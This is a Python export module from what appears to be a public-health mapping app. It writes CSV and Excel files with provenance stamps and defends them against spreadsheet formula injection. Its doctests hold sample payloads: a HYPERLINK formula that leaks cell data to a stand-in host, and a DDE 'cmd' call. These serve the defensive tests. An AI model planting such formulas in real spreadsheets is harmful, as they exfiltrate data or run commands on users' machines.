"""File exports (CSV, Excel) that say who exported them, when, and what they hold, and
that cannot carry a spreadsheet formula.

Every export of the app and the CLI goes through this module (map tables, reports, the
audit log, problem lists, templates, screening lists, points statements), so one rule
holds for all of them:

* **Formula injection** (OWASP "CSV injection"): a text cell that begins with ``=``,
  ``+``, ``-``, ``@``, a tab or a carriage return (or their full-width forms) is written
  with a leading ``'``, so Excel, WPS and LibreOffice show it as text instead of running
  it. Numbers stay numbers: a numeric column is written unchanged, and a text cell that
  is a plain number (``-12.5``) is left alone too. In Excel every text cell is stored as
  a string cell, never as a formula.
* **Provenance**: staff exports of personal lists must carry the exporting user and time
  (PIPL duty to keep records of processing); the same stamp on aggregate tables costs
  nothing and tells a reader where a spreadsheet came from. The stamp is written *into
  the file*: the first lines of a CSV (``# key: value``; ``pandas.read_csv(...,
  comment="#")`` skips them) and a sheet ``导出信息`` in Excel.

Recording the export in the audit log is the caller's job (:func:`healthmap.audit.record`),
because only the caller knows it happened.

Examples
--------
>>> safe_cell("=1+1"), safe_cell("-5"), safe_cell("@SUM(A1)"), safe_cell(-5), safe_cell("玉环")
("'=1+1", '-5', "'@SUM(A1)", -5, '玉环')
"""

from __future__ import annotations

import datetime as dt
import io
import re
from dataclasses import dataclass, field
from typing import Any, Mapping

import pandas as pd

# first characters that make a spreadsheet read a cell as a formula (or a DDE call); the
# full-width forms because some spreadsheet programs fold them on input
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?")
STAMP_SHEET = "导出信息"


def safe_cell(value: Any) -> Any:
    """``value`` as it may be written to a spreadsheet cell: text beginning with a formula
    character gets a leading ``'``; everything that is not text is returned unchanged.

    >>> safe_cell('=HYPERLINK("https://x/?leak="&A1,"audit")')[:3]
    "'=H"
    >>> safe_cell("+cmd|' /C calc'!A0")[:2], safe_cell("\\t=1")[:1], safe_cell("+86 138")[:1]
    ("'+", "'", "'")
    >>> safe_cell("1e5"), safe_cell(""), safe_cell(None)
    ('1e5', '', None)
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with every text cell (and column name) passed through
    :func:`safe_cell`; numeric, boolean and date columns are left as they are.

    >>> d = safe_frame(pd.DataFrame({"name": ["=1+1", "ok"], "n": [-3, 4]}))
    >>> d["name"].tolist(), d["n"].tolist(), str(d["n"].dtype)
    (["'=1+1", 'ok'], [-3, 4], 'int64')
    """
    out = df.copy()
    for col in out.columns:
        s = out[col]
        if s.dtype == object or pd.api.types.is_string_dtype(s) or isinstance(
                s.dtype, pd.CategoricalDtype):
            out[col] = s.astype(object).map(safe_cell)
    out.columns = [safe_cell(str(c)) if isinstance(c, str) else c for c in out.columns]
    return out


def _one_line(value: Any) -> str:
    return " ".join(str(value).split())


@dataclass(frozen=True)
class Stamp:
    """Provenance of an export.

    >>> s = Stamp("demo_leader", "健康地图 · 发病率", when=dt.datetime(2025, 6, 30, 9, 5))
    >>> s.lines()[:2]
    [('导出人 / exported by', 'demo_leader'), ('导出时间 / exported at', '2025-06-30 09:05:00')]
    """

    user: str
    content: str
    personal: bool = False
    filters: str = ""
    when: dt.datetime = field(default_factory=lambda: dt.datetime.now().replace(microsecond=0))

    def lines(self) -> list[tuple[str, str]]:
        """(item, value) pairs, each value on one line (a line break in a user name or a
        filter cannot end the CSV's comment block)."""
        out = [("导出人 / exported by", self.user or "公众 / public"),
               ("导出时间 / exported at", self.when.isoformat(sep=" ")),
               ("内容 / content", self.content)]
        if self.filters:
            out.append(("筛选条件 / filters", self.filters))
        if self.personal:
            out.append(("注意 / notice", "含个人信息，仅限工作使用，不得外传 / personal data: "
                        "for official use only, do not share"))
        return [(k, _one_line(v)) for k, v in out]


def csv_text(df: pd.DataFrame, stamp: Stamp | None = None) -> str:
    """The CSV text of ``df`` (formula-safe), the stamp first as ``#`` comment lines.

    Lines end in CRLF (RFC 4180), so a field holding a bare carriage return is quoted
    too and cannot start a new row in a spreadsheet.
    """
    head = "".join(f"# {k}: {safe_cell(v)}\r\n" for k, v in stamp.lines()) if stamp else ""
    return head + safe_frame(df).to_csv(index=False, lineterminator="\r\n")


def to_csv_bytes(df: pd.DataFrame, stamp: Stamp | None = None) -> bytes:
    """UTF-8 CSV with a byte-order mark (so Excel opens Chinese text correctly), the
    stamp first as ``#`` comment lines.

    >>> b = to_csv_bytes(pd.DataFrame({"a": [1]}), Stamp("u", "x", when=dt.datetime(2025, 1, 1)))
    >>> b.decode("utf-8-sig").splitlines()[0]
    '# 导出人 / exported by: u'
    >>> pd.read_csv(io.BytesIO(b), comment="#", encoding="utf-8-sig")["a"].tolist()
    [1]
    """
    return csv_text(df, stamp).encode("utf-8-sig")


def _write_sheet(wb, title: str, df: pd.DataFrame) -> None:
    ws = wb.create_sheet(title=title[:31])
    frame = safe_frame(df)
    ws.append([str(c) for c in frame.columns])
    for row in frame.itertuples(index=False, name=None):
        ws.append([None if _missing(v) else _excel_value(v) for v in row])
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # a string cell, never a formula


def _missing(v: Any) -> bool:
    try:
        return v is None or bool(pd.isna(v))
    except (TypeError, ValueError):
        return False


def _excel_value(v: Any) -> Any:
    if isinstance(v, pd.Timestamp):
        return v.to_pydatetime()
    if hasattr(v, "item") and not isinstance(v, (str, bytes)):  # numpy scalars
        return v.item()
    if isinstance(v, (str, int, float, bool, dt.date, dt.datetime, dt.time)):
        return v
    return str(v)


def to_xlsx_book(sheets: Mapping[str, pd.DataFrame], stamp: Stamp | None = None) -> bytes:
    """An Excel workbook with one sheet per entry of ``sheets`` (name → table, in order;
    names cut to Excel's 31 characters) and, with a stamp, a sheet ``导出信息``.

    >>> b = to_xlsx_book({"名单": pd.DataFrame({"姓名": ["=1+1"]}), "汇总": pd.DataFrame({"n": [2]})})
    >>> book = pd.read_excel(io.BytesIO(b), sheet_name=None)
    >>> list(book), book["名单"]["姓名"].tolist(), book["汇总"]["n"].tolist()
    (['名单', '汇总'], ["'=1+1"], [2])
    """
    from openpyxl import Workbook

    if not sheets:
        raise ValueError("a workbook needs at least one sheet")
    wb = Workbook()
    wb.remove(wb.active)
    for name, df in sheets.items():
        _write_sheet(wb, str(name), df)
    if stamp:
        _write_sheet(wb, STAMP_SHEET, pd.DataFrame(stamp.lines(),
                                                   columns=["项目 / item", "内容 / value"]))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def to_xlsx_bytes(df: pd.DataFrame, stamp: Stamp | None = None, sheet: str = "data") -> bytes:
    """An Excel workbook: the table on ``sheet`` and, with a stamp, a sheet ``导出信息``."""
    return to_xlsx_book({sheet: df}, stamp)


def to_xlsx_layout(sheets: Mapping[str, tuple[list[list[Any]], list[str]]],
                   stamp: Stamp | None = None, widths: Mapping[str, float] | None = None
                   ) -> bytes:
    """A workbook of fixed layouts (a form's exact table): per sheet, rows of cells
    (``None`` = blank) and the ranges to merge (``"A1:O1"``). Text cells pass
    :func:`safe_cell` and are string cells; with a stamp, a sheet ``导出信息``.

    >>> b = to_xlsx_layout({"表": ([["标题", None], ["=1+1", 2]], ["A1:B1"])})
    >>> import openpyxl; ws = openpyxl.load_workbook(io.BytesIO(b))["表"]
    >>> ws["A2"].value, ws["B2"].value, [str(r) for r in ws.merged_cells.ranges]
    ("'=1+1", 2, ['A1:B1'])
    """
    from openpyxl import Workbook
    from openpyxl.styles import Alignment

    if not sheets:
        raise ValueError("a workbook needs at least one sheet")
    wb = Workbook()
    wb.remove(wb.active)
    for name, (rows, merges) in sheets.items():
        ws = wb.create_sheet(title=str(name)[:31])
        for row in rows:
            ws.append([None if _missing(v) else _excel_value(safe_cell(v)) for v in row])
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
                cell.alignment = Alignment(wrap_text=True, vertical="center")
        for rng in merges:
            ws.merge_cells(rng)
        for col, w in (widths or {}).items():
            ws.column_dimensions[col].width = w
    if stamp:
        _write_sheet(wb, STAMP_SHEET, pd.DataFrame(stamp.lines(),
                                                   columns=["项目 / item", "内容 / value"]))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
